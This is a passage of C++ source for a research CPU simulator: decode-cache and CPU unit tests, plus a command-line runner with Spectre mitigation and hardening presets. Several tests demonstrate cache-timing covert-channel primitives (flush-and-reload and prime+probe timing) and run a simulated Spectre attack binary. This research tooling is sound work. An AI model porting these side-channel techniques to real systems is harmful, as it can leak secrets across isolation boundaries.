  in.rd = static_cast<std::uint8_t>(rd);
  in.rs1 = static_cast<std::uint8_t>(rs1);
  in.rs2 = static_cast<std::uint8_t>(rs2);
  in.imm = imm;
  mem.write_bytes(addr, isa::encode(in));
}

TEST(MemoryVersions, BumpOnEveryWriteKind) {
  Memory m(4 * Memory::kPageSize);
  EXPECT_EQ(m.page_version(0), 1u);  // versions start at 1

  m.set_permissions(0, Memory::kPageSize, sim::kPermRW);
  const auto after_perms = m.page_version(0);
  EXPECT_GT(after_perms, 1u);

  m.write_u8(5, 0xAA);
  EXPECT_GT(m.page_version(0), after_perms);

  const auto v1 = m.page_version(1);
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, sim::kPermRW);
  m.write_u64(2 * Memory::kPageSize - 4, 0x1122334455667788ull);  // straddles
  EXPECT_GT(m.page_version(1), v1);
  EXPECT_GT(m.page_version(2), 1u);

  EXPECT_EQ(m.page_version(99), 0u);  // out of range, never matches a page
}

TEST(DecodeCache, NonExecutablePageReturnsNull) {
  Memory m(2 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, sim::kPermRW);
  DecodeCache dc(m);
  EXPECT_EQ(dc.lookup(0), nullptr);
  EXPECT_EQ(dc.lookup(64 * Memory::kPageSize), nullptr);  // out of range
  dc.invalidate(64 * Memory::kPageSize);  // no-op, page never decoded
  EXPECT_EQ(dc.stats().explicit_invalidations, 0u);
}

TEST(DecodeCache, RepeatLookupsHitWithoutRedecoding) {
  Memory m(2 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, sim::kPermRX);
  put(m, 0, isa::Opcode::kAddImm, 1, 1, 0, 7);
  DecodeCache dc(m);
  const auto* slot = dc.lookup(0);
  ASSERT_NE(slot, nullptr);
  EXPECT_EQ(slot->state, sim::DecodedSlot::kValid);
  EXPECT_EQ(slot->instr.imm, 7);
  EXPECT_EQ(dc.stats().slot_decodes, 1u);
  dc.lookup(0);
  dc.lookup(0);
  EXPECT_EQ(dc.stats().slot_decodes, 1u);
  EXPECT_EQ(dc.stats().hits, 2u);
  EXPECT_EQ(dc.stats().page_refreshes, 1u);
}

// clflush of a line in the (mapped, executing) code page drops the page's
// decoded state: every post-flush fetch re-decodes.
TEST(DecodeCache, ClflushOfCodePageForcesRedecode) {
  // Pin the interpreter: the stat expectations below count per-step decode
  // cache traffic, which the block engine intentionally bypasses.
  sim::MachineConfig mc;
  mc.cpu.exec_engine = sim::ExecEngine::kInterp;
  sim::Machine machine(mc);
  auto& mem = machine.memory();
  const std::uint64_t base = 0x1000;
  mem.set_permissions(base, Memory::kPageSize, sim::kPermRX);
  put(mem, base + 0x00, isa::Opcode::kMovImm, 4, 0, 0, 0x1000);  // r4 = base
  put(mem, base + 0x08, isa::Opcode::kMovImm, 6, 0, 0, 2);       // r6 = 2
  put(mem, base + 0x10, isa::Opcode::kAddImm, 6, 6, 0, -1);      // loop:
  put(mem, base + 0x18, isa::Opcode::kClflush, 0, 4, 0, 0);
  put(mem, base + 0x20, isa::Opcode::kBnez, 0, 6, 0, 0x1010);
  put(mem, base + 0x28, isa::Opcode::kHalt);

  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);

  const auto& stats = machine.cpu().decode_cache().stats();
  EXPECT_EQ(stats.explicit_invalidations, 2u);  // one per clflush retired
  // Initial fill plus a refresh after each clflush.
  EXPECT_GE(stats.page_refreshes, 3u);
  // 4 pre-loop/loop slots + re-decodes of the loop body and the tail after
  // each of the two flushes.
  EXPECT_GE(stats.slot_decodes, 9u);
}

// Self-modifying code: a store into the executing page must invalidate the
// pre-decoded slot, otherwise the patched instruction's old decode runs.
TEST(DecodeCache, StoreToExecPageForcesRedecode) {
  for (const bool cached : {true, false}) {
    sim::MachineConfig mc;
    mc.cpu.decode_cache = cached;
    sim::Machine machine(mc);
    auto& mem = machine.memory();
    const std::uint64_t base = 0x1000;
    mem.set_permissions(base, Memory::kPageSize,
                        static_cast<sim::Perm>(sim::kPermRW | sim::kPermExec));

    // The replacement instruction `movi r1, 77`, materialised in r3 by
    // halves (movi immediates are 32-bit).
    isa::Instruction repl;
    repl.op = isa::Opcode::kMovImm;
    repl.rd = 1;
    repl.imm = 77;
    const auto bytes = isa::encode(repl);
    std::uint64_t word = 0;
    for (std::size_t i = 0; i < bytes.size(); ++i) {
      word |= static_cast<std::uint64_t>(bytes[i]) << (8 * i);
    }
    const auto lo = static_cast<std::int32_t>(word & 0xFFFFFFFFull);
    const auto hi = static_cast<std::int32_t>(word >> 32);

    put(mem, base + 0x00, isa::Opcode::kMovImm, 4, 0, 0, 0x1030);  // &target
    put(mem, base + 0x08, isa::Opcode::kMovImm, 3, 0, 0, hi);
    put(mem, base + 0x10, isa::Opcode::kShlImm, 3, 3, 0, 32);
    put(mem, base + 0x18, isa::Opcode::kMovImm, 5, 0, 0, lo);
    put(mem, base + 0x20, isa::Opcode::kOr, 3, 3, 5, 0);
    put(mem, base + 0x28, isa::Opcode::kStore, 0, 4, 3, 0);  // patch target
    put(mem, base + 0x30, isa::Opcode::kMovImm, 1, 0, 0, 11);  // target:
    put(mem, base + 0x38, isa::Opcode::kHalt);

    machine.cpu().reset(base, 0x8000);
    EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
    // Stale decode would leave r1 == 11.
    EXPECT_EQ(machine.cpu().reg(1), 77u) << "cached=" << cached;
  }
}

// Loading a second binary over the first (the kernel rewrites the segments
// in place, as execve does) must not serve the old program's decodes.
TEST(DecodeCache, ExecveOverlayForcesRedecode) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 31\n"
      "  call exit_\n",
      "/bin/a");
  h.add_program(
      "_start:\n"
      "  movi r1, 62\n"
      "  call exit_\n",
      "/bin/b");
  EXPECT_EQ(h.run_program("/bin/a"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 31);
  // Same machine, same load addresses: only the page-version bump separates
  // /bin/b's bytes from /bin/a's stale decodes.
  EXPECT_EQ(h.run_program("/bin/b"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 62);
}

// The decode cache is purely a simulator-speed device: retired instruction
// count, cycle count, and every PMU counter must be identical with it on and
// off — for a benign workload and for a full Spectre attack run.
TEST(DecodeCache, OnOffBehaviourallyIdentical) {
  const auto run_one = [](const sim::Program& prog, bool cached) {
    sim::MachineConfig mc;
    mc.cpu.decode_cache = cached;
    sim::Machine machine(mc);
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/p", prog);
    kernel.start_with_strings("/bin/p", {"p"});
    kernel.run(50'000'000);
    return std::tuple{machine.cpu().retired(), machine.cpu().cycle(),
                      machine.pmu().snapshot(), kernel.output_string()};
  };

  workloads::WorkloadOptions opt;
  opt.scale = 500;
  const auto benign = workloads::build_workload("sha", opt);
  EXPECT_EQ(run_one(benign, true), run_one(benign, false));

  attack::AttackConfig acfg;
  acfg.embed_secret = "DECODE-CACHE-EQS";  // 16 bytes, the default length
  const auto attack_prog = attack::build_attack_binary(acfg);
  const auto with = run_one(attack_prog, true);
  EXPECT_EQ(with, run_one(attack_prog, false));
}

// Snapshot restore vs the decode cache: restoring a page that a later run
// rewrote (SMC-style) must bump the page version — never roll it back — so
// slots decoded from the later bytes can never be served against the
// restored bytes.
TEST(DecodeCache, SnapshotRestoreBumpsVersionsSoStaleSlotsDie) {
  sim::Machine machine;  // decode cache on by default
  auto& mem = machine.memory();
  const std::uint64_t base = 0x1000;
  mem.set_permissions(base, Memory::kPageSize,
                      static_cast<sim::Perm>(sim::kPermRW | sim::kPermExec));
  put(mem, base + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 11);
  put(mem, base + 0x08, isa::Opcode::kHalt);

  // Checkpoint with program A in place, then execute it (populating the
  // decode cache with A's slots at the current page version).
  sim::MachineSnapshot snap = machine.snapshot();
  EXPECT_EQ(snap.stored_page_count(), 1u);
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  EXPECT_EQ(machine.cpu().reg(1), 11u);

  // Overwrite with program B and run: the cache now holds B's decodes.
  put(mem, base + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 22);
  const std::uint32_t version_b = mem.page_version(base / Memory::kPageSize);
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  EXPECT_EQ(machine.cpu().reg(1), 22u);

  // Roll back to A. The restored page's version must be strictly greater
  // than anything the cache has seen, forcing a re-decode of A's bytes.
  machine.restore(snap);
  EXPECT_EQ(snap.last_restored_pages(), 1u);
  EXPECT_GT(mem.page_version(base / Memory::kPageSize), version_b);
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  EXPECT_EQ(machine.cpu().reg(1), 11u) << "stale decode of B survived restore";
}

}  // namespace
}  // namespace crs
