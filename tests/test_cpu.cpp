#include <gtest/gtest.h>

#include "harness.hpp"

namespace crs {
namespace {

using sim::Event;
using sim::FaultKind;
using sim::StopReason;
using test::SimHarness;

TEST(Cpu, ArithmeticAndExit) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 6\n"
      "  movi r2, 7\n"
      "  mul r1, r1, r2\n"
      "  call exit_\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 42);
}

TEST(Cpu, LoopComputesSum) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 0\n"   // sum
      "  movi r2, 100\n" // i
      "loop:\n"
      "  add r1, r1, r2\n"
      "  addi r2, r2, -1\n"
      "  bnez r2, loop\n"
      "  call exit_\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 5050);
}

TEST(Cpu, MemoryLoadStoreRoundTrip) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, buf\n"
      "  movi r2, 0x1234\n"
      "  store [r1+8], r2\n"
      "  load r3, [r1+8]\n"
      "  mov r1, r3\n"
      "  call exit_\n"
      ".data\n"
      "buf: .space 32\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 0x1234);
}

TEST(Cpu, ByteAccessIsZeroExtended) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, buf\n"
      "  movi r2, 0x1ff\n"
      "  storeb [r1], r2\n"   // stores 0xff
      "  loadb r3, [r1]\n"
      "  mov r1, r3\n"
      "  call exit_\n"
      ".data\n"
      "buf: .space 8\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 0xff);
}

TEST(Cpu, CallRetNestsViaStack) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 1\n"
      "  call f\n"
      "  call exit_\n"
      "f:\n"
      "  addi r1, r1, 10\n"
      "  call g\n"
      "  addi r1, r1, 100\n"
      "  ret\n"
      "g:\n"
      "  addi r1, r1, 1000\n"
      "  ret\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 1111);
}

TEST(Cpu, PushPopRestoresValues) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 5\n"
      "  movi r2, 9\n"
      "  push r1\n"
      "  push r2\n"
      "  pop r3\n"
      "  pop r4\n"
      "  sub r1, r3, r4\n"  // 9 - 5
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 4);
}

TEST(Cpu, ComparisonsAndSignedArithmetic) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, -5\n"
      "  movi r2, 3\n"
      "  cmplt r3, r1, r2\n"   // signed: 1
      "  cmpltu r4, r1, r2\n"  // unsigned: 0 (-5 wraps huge)
      "  shli r3, r3, 1\n"
      "  add r1, r3, r4\n"     // 2
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 2);
}

TEST(Cpu, DivideByZeroYieldsAllOnesNotFault) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 9\n"
      "  movi r2, 0\n"
      "  divu r3, r1, r2\n"
      "  cmpeq r4, r3, r2\n"  // r3 == 0? no
      "  movi r1, 1\n"
      "  call exit_\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
}

TEST(Cpu, IndirectJumpGoesThroughRegister) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, target\n"
      "  jmpr r4\n"
      "  movi r1, 1\n"  // skipped
      "  call exit_\n"
      "target:\n"
      "  movi r1, 77\n"
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 77);
}

TEST(Cpu, DepBlocksExecutionFromStack) {
  // Write code bytes to the stack and jump there: fetch permission fault.
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  mov r4, sp\n"
      "  addi r4, r4, -64\n"
      "  movi r5, 1\n"        // halt opcode byte
      "  storeb [r4], r5\n"
      "  jmpr r4\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, FaultKind::kFetchPermission);
}

TEST(Cpu, WriteToCodePageFaults) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, _start\n"
      "  movi r5, 0\n"
      "  store [r4], r5\n"
      "  halt\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, FaultKind::kWritePermission);
}

TEST(Cpu, ReadFromUnmappedFaults) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, 0x1000\n"  // below the image, unmapped
      "  load r5, [r4]\n"
      "  halt\n",
      "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t"), StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, FaultKind::kReadPermission);
}

TEST(Cpu, RdcycleIsMonotonic) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  rdcycle r4\n"
      "  nop\n"
      "  nop\n"
      "  rdcycle r5\n"
      "  cmplt r1, r4, r5\n"  // strictly increasing
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 1);
}

TEST(Cpu, RdcycleMfenceMeasuresLoadLatency) {
  // Timing a flushed load vs a cached load must show a gap — the covert
  // channel's receiver primitive.
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, buf\n"
      "  load r5, [r4]\n"      // warm the line
      "  mfence\n"
      "  rdcycle r6\n"
      "  load r5, [r4]\n"
      "  mov r7, r5\n"         // dependency
      "  mfence\n"
      "  rdcycle r8\n"
      "  sub r9, r8, r6\n"     // hit time
      "  clflush [r4]\n"
      "  mfence\n"
      "  rdcycle r6\n"
      "  load r5, [r4]\n"
      "  mov r7, r5\n"
      "  mfence\n"
      "  rdcycle r8\n"
      "  sub r10, r8, r6\n"    // miss time
      "  cmplt r1, r9, r10\n"
      "  call exit_\n"
      ".data\n"
      ".align 64\n"
      "buf: .space 64\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 1) << "miss must take longer than hit";
}

TEST(Cpu, PmuCountsRetiredInstructionClasses) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, 4\n"
      "loop:\n"
      "  addi r1, r1, -1\n"
      "  bnez r1, loop\n"
      "  movi r4, buf\n"
      "  load r5, [r4]\n"
      "  store [r4], r5\n"
      "  clflush [r4]\n"
      "  mfence\n"
      "  halt\n"
      ".data\n"
      "buf: .space 8\n",
      "/bin/t");
  h.run_program("/bin/t");
  const auto& pmu = h.machine().pmu();
  EXPECT_EQ(pmu.count(Event::kBranches), 4u);
  EXPECT_EQ(pmu.count(Event::kTakenBranches), 3u);
  EXPECT_EQ(pmu.count(Event::kClflushes), 1u);
  EXPECT_EQ(pmu.count(Event::kMfences), 1u);
  EXPECT_GE(pmu.count(Event::kLoads), 1u);
  EXPECT_GE(pmu.count(Event::kStores), 1u);
  EXPECT_GT(pmu.count(Event::kInstructions), 10u);
  EXPECT_GE(pmu.count(Event::kCycles), pmu.count(Event::kInstructions));
}

TEST(Cpu, BranchMispredictsCountedOnPatternChange) {
  SimHarness h;
  // Branch taken 20 times then falls through: at least one mispredict at
  // the exit, and early training mispredicts while counters saturate.
  h.add_program(
      "_start:\n"
      "  movi r1, 20\n"
      "loop:\n"
      "  addi r1, r1, -1\n"
      "  bnez r1, loop\n"
      "  halt\n",
      "/bin/t");
  h.run_program("/bin/t");
  const auto& pmu = h.machine().pmu();
  EXPECT_GE(pmu.count(Event::kBranchMispredicts), 1u);
  EXPECT_LE(pmu.count(Event::kBranchMispredicts), 4u);
}

TEST(Cpu, RuntimeMemcpyCopiesBytes) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, dst\n"
      "  movi r2, src\n"
      "  movi r3, 5\n"
      "  call memcpy\n"
      "  movi r4, dst\n"
      "  loadb r1, [r4+4]\n"
      "  call exit_\n"
      ".data\n"
      "src: .ascii \"HELLO\"\n"
      "dst: .space 8\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 'O');
}

TEST(Cpu, RuntimeStrlenAndPrint) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, msg\n"
      "  movi r2, 3\n"
      "  call print\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "msg: .asciz \"hey\"\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().output_string(), "hey");
}

TEST(Cpu, RobClampMakesDependentChainsPayTheirLatency) {
  // A dependent pointer chase cannot hide behind infinite memory-level
  // parallelism: with the ROB window bound, CPI approaches the memory
  // latency divided by the loop length.
  test::SimHarness h;
  h.add_program(
      "_start:\n"
      // ring of 8192 nodes x 64B = 512 KiB: every hop misses L2
      "  movi r13, 0\n"
      "build:\n"
      "  addi r5, r13, 999\n"
      "  movi r6, 8192\n"
      "  remu r5, r5, r6\n"
      "  shli r5, r5, 6\n"
      "  movi r6, nodes\n"
      "  add r5, r6, r5\n"
      "  shli r7, r13, 6\n"
      "  add r7, r6, r7\n"
      "  store [r7], r5\n"
      "  addi r13, r13, 1\n"
      "  movi r7, 8192\n"
      "  cmplt r7, r13, r7\n"
      "  bnez r7, build\n"
      "  rdcycle r10\n"
      "  movi r5, nodes\n"
      "  movi r13, 20000\n"
      "chase:\n"
      "  load r5, [r5]\n"
      "  addi r13, r13, -1\n"
      "  bnez r13, chase\n"
      "  mfence\n"
      "  rdcycle r11\n"
      "  sub r1, r11, r10\n"
      "  movi r2, 20000\n"
      "  divu r1, r1, r2\n"   // cycles per hop
      "  call exit_\n"
      ".data\n.align 64\nnodes: .space 524288\n",
      "/bin/t");
  ASSERT_EQ(h.run_program("/bin/t", {}, 500'000'000), StopReason::kHalted);
  const auto per_hop = h.kernel().exit_code();
  // Memory latency is 120 and the loop is 3 instructions: per-hop cost
  // must be latency-bound (not 3 cycles of pure throughput).
  EXPECT_GE(per_hop, 100);
  EXPECT_LE(per_hop, 140);
}

TEST(Cpu, DependentDivChainDrainsIntoClockWithoutFence) {
  // The prime+probe receiver's "latency amplifier": a dependent divide
  // chain after a slow load pushes the load's completion time into the
  // cycle counter via the ROB clamp — no mfence needed.
  test::SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, buf\n"
      "  load r5, [r4]\n"     // warm
      "  clflush [r4]\n"
      "  rdcycle r10\n"
      "  load r5, [r4]\n"     // memory miss: ready += 120
      "  movi r6, 1\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  divu r5, r5, r6\n"
      "  rdcycle r11\n"
      "  sub r1, r11, r10\n"
      "  call exit_\n"
      ".data\n.align 64\nbuf: .space 64\n",
      "/bin/t");
  ASSERT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  // 120 (miss) + 240 (divs) - 192 (ROB window) = 168 minimum.
  EXPECT_GE(h.kernel().exit_code(), 150);
}

TEST(Cpu, InstructionLimitStopsRunawayLoop) {
  SimHarness h;
  h.add_program("_start:\n  jmp _start\n", "/bin/t");
  EXPECT_EQ(h.run_program("/bin/t", {}, 1000), StopReason::kInstructionLimit);
}

TEST(Cpu, RunUntilCycleStopsAtTarget) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "loop: addi r1, r1, 1\n"
      "  jmp loop\n",
      "/bin/t");
  h.kernel().start_with_strings("/bin/t", {});
  const auto reason = h.kernel().run_until_cycle(500, 1'000'000);
  EXPECT_EQ(reason, StopReason::kCycleLimit);
  EXPECT_GE(h.machine().cpu().cycle(), 500u);
  EXPECT_LT(h.machine().cpu().cycle(), 700u);
}

}  // namespace
}  // namespace crs
