// crsim — assemble and run a program on the simulated machine.
//
//   crsim prog.s [arg1 arg2 ...]     assemble + run, print output and PMU
//   crsim --disasm prog.s            assemble and print the listing
//   crsim --threads N ...            pin the worker-pool size for any
//                                    library code that fans out
//   crsim --bench-json <path> ...    append a {"name",...} JSON line with
//                                    the run's wall time and retired/s
//   crsim --trace <out.json> ...     write a Chrome trace_event JSON of the
//                                    run (chrome://tracing / Perfetto)
//   crsim --metrics <out.csv> ...    write the metrics registry as CSV
//   crsim --mitigations <set> ...    run under a mitigation preset (none,
//                                    lfence-bounds, slh, retpoline,
//                                    flush-on-switch, partition, ward-split,
//                                    full) or a comma-joined flag list;
//                                    unknown names are rejected with the
//                                    valid listing
//   crsim --harden <set> ...         run under a hardening preset (none,
//                                    aslr, canary, heap-guard, full) or a
//                                    comma-joined flag list. aslr relocates
//                                    the image/stack per the kernel seed;
//                                    heap-guard arms the redzone checks.
//                                    The canary flag only takes effect for
//                                    programs that declare a `__canary`
//                                    slot (the workload scaffold does)
//   crsim --snapshot on|off ...      force the snapshot/memo fast-reset
//                                    engine on or off for library code that
//                                    runs repeated attempts (off = legacy
//                                    rebuild-everything path); recorded in
//                                    the --bench-json line
//   crsim --cow on|off ...           copy-on-write machine forking: on
//                                    (default) replicates machines from a
//                                    shared frozen baseline in O(dirty
//                                    pages); off builds each privately.
//                                    Cost switch only — results identical
//   crsim --exec interp|blocks ...   pick the execution engine: the
//                                    per-instruction interpreter or the
//                                    threaded-code block engine (default;
//                                    bit-identical, ~3x faster); recorded
//                                    in the --bench-json line
//
// The runtime library (print/exit_/memcpy/... and the gadget-donating
// helpers) is linked in automatically, exactly as for the built-in
// workloads. Use this to write your own victims and attacks.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/report.hpp"
#include "harden/config.hpp"
#include "mitigate/config.hpp"
#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "sim/cpu.hpp"
#include "sim/kernel.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/strings.hpp"

namespace {

void apply_exec_flag(const std::string& value) {
  if (const auto engine = crs::sim::parse_exec_engine(value)) {
    crs::sim::set_default_exec_engine(*engine);
  } else {
    throw crs::Error("--exec wants 'interp' or 'blocks', got '" + value + "'");
  }
}

std::string read_file(const std::string& path) {
  std::ifstream f(path);
  if (!f.good()) {
    throw crs::Error("cannot read '" + path + "'");
  }
  std::ostringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: crsim [--disasm] [--threads N] [--bench-json <path>] "
                 "[--trace <out.json>] [--metrics <out.csv>] "
                 "[--mitigations <preset|flags>] [--harden <preset|flags>] "
                 "[--snapshot on|off] [--cow on|off] "
                 "[--exec interp|blocks] <prog.s> [args...]\n"
                 "       assembles with the runtime library and runs the "
                 "program on the simulator\n");
    return 2;
  }

  try {
    bool disasm = false;
    std::string json_path;
    std::string trace_path;
    std::string metrics_path;
    mitigate::MitigationConfig mitigations;
    harden::HardenConfig harden;
    std::string value;
    FlagCursor args(argc, argv);
    while (args.more_flags()) {
      std::uint64_t u = 0;
      if (args.take("--disasm")) {
        disasm = true;
      } else if (args.take_value("--mitigations", value)) {
        mitigations = mitigate::MitigationConfig::parse(value);
      } else if (args.take_value("--harden", value)) {
        harden = harden::HardenConfig::parse(value);
      } else if (args.take_value("--snapshot", value)) {
        apply_snapshot_flag(value);
      } else if (args.take_value("--cow", value)) {
        apply_cow_flag(value);
      } else if (args.take_value("--exec", value)) {
        apply_exec_flag(value);
      } else if (args.take_u64("--threads", u)) {
        set_thread_override(static_cast<unsigned>(u));
      } else if (args.take_value("--bench-json", json_path)) {
      } else if (args.take_value("--trace", trace_path)) {
      } else if (args.take_value("--metrics", metrics_path)) {
      } else {
        args.unknown();
      }
    }
    if (!args.more()) {
      std::fprintf(stderr, "missing input file\n");
      return 2;
    }
    const std::string path = args.take_positional();
    const sim::Program program =
        casm::assemble(read_file(path) + casm::runtime_library(),
                       {.name = path, .link_base = 0x10000});

    if (disasm) {
      std::fputs(casm::disassemble_text(program).c_str(), stdout);
      return 0;
    }

    std::vector<std::string> prog_args{path};
    while (args.more()) prog_args.push_back(args.take_positional());

    if ((!trace_path.empty() || !metrics_path.empty()) && !obs::kEnabled) {
      std::fprintf(stderr,
                   "crsim: built with CRSPECTRE_OBS=OFF — trace/metrics "
                   "output will be empty\n");
    }
    if (!trace_path.empty()) obs::set_tracing_enabled(true);

    sim::MachineConfig mcfg;
    sim::KernelConfig kcfg;
    mitigations.apply(mcfg, kcfg);
    harden.apply(kcfg);
    sim::Machine machine(mcfg);
    sim::Kernel kernel(machine, kcfg);
    const mitigate::Armed armed = mitigate::arm(kernel, mitigations);
    kernel.register_binary(path, program);
    kernel.start_with_strings(path, prog_args);
    obs::TraceSpan run_span("crsim.run", machine.cpu().cycle());
    const auto t0 = std::chrono::steady_clock::now();
    const auto reason = kernel.run(2'000'000'000);
    run_span.close(machine.cpu().cycle());
    const double wall_ms =
        std::chrono::duration<double, std::milli>(
            std::chrono::steady_clock::now() - t0)
            .count();

    if (!kernel.output_string().empty()) {
      std::printf("%s", kernel.output_string().c_str());
      if (kernel.output_string().back() != '\n') std::printf("\n");
    }
    switch (reason) {
      case sim::StopReason::kHalted:
        std::fprintf(stderr, "[crsim] exit %lld\n",
                     static_cast<long long>(kernel.exit_code()));
        break;
      case sim::StopReason::kFault:
        std::fprintf(stderr, "[crsim] FAULT kind=%d at pc=%s addr=%s\n",
                     static_cast<int>(machine.cpu().fault().kind),
                     hex(machine.cpu().fault().pc).c_str(),
                     hex(machine.cpu().fault().addr).c_str());
        break;
      default:
        std::fprintf(stderr, "[crsim] instruction limit reached\n");
        break;
    }
    std::fprintf(stderr,
                 "[crsim] %llu instructions, %llu cycles (IPC %.3f)\n",
                 static_cast<unsigned long long>(machine.cpu().retired()),
                 static_cast<unsigned long long>(machine.cpu().cycle()),
                 static_cast<double>(machine.cpu().retired()) /
                     static_cast<double>(machine.cpu().cycle()));
    for (std::size_t i = 0; i < sim::kEventCount; ++i) {
      const auto e = static_cast<sim::Event>(i);
      std::fprintf(stderr, "[pmu] %-20s %llu\n",
                   std::string(sim::event_name(e)).c_str(),
                   static_cast<unsigned long long>(machine.pmu().count(e)));
    }
    if (!trace_path.empty()) {
      obs::set_tracing_enabled(false);
      core::write_text_file(trace_path, obs::TraceSink::instance().chrome_json());
      std::fprintf(stderr, "[crsim] wrote %zu trace events to %s\n",
                   obs::TraceSink::instance().event_count(),
                   trace_path.c_str());
    }
    if (mitigations.any()) {
      const mitigate::MitigationSummary sum =
          mitigate::summarize(machine, kernel, armed);
      std::fprintf(stderr, "[crsim] mitigations=%s events=%llu\n",
                   mitigations.serialize().c_str(),
                   static_cast<unsigned long long>(sum.total_events()));
      for (const auto& f : mitigate::summary_fields()) {
        if (sum.*(f.member) != 0) {
          std::fprintf(stderr, "[mitigate] %-28s %llu\n", f.name,
                       static_cast<unsigned long long>(sum.*(f.member)));
        }
      }
      sum.publish("mitigate");
    }
    if (harden.any()) {
      const harden::HardenSummary hsum = harden::summarize(kernel, harden);
      std::fprintf(stderr, "[crsim] harden=%s events=%llu\n",
                   harden.serialize().c_str(),
                   static_cast<unsigned long long>(hsum.total_events()));
      for (const auto& f : harden::summary_fields()) {
        if (hsum.*(f.member) != 0) {
          std::fprintf(stderr, "[harden] %-28s %llu\n", f.name,
                       static_cast<unsigned long long>(hsum.*(f.member)));
        }
      }
      hsum.publish("harden");
    }
    if (!metrics_path.empty()) {
      machine.publish_metrics("sim");
      core::write_text_file(metrics_path,
                            obs::MetricsRegistry::instance().csv());
      std::fprintf(stderr, "[crsim] wrote %zu metrics to %s\n",
                   obs::MetricsRegistry::instance().size(),
                   metrics_path.c_str());
    }
    if (!json_path.empty()) {
      if (std::FILE* f = std::fopen(json_path.c_str(), "a")) {
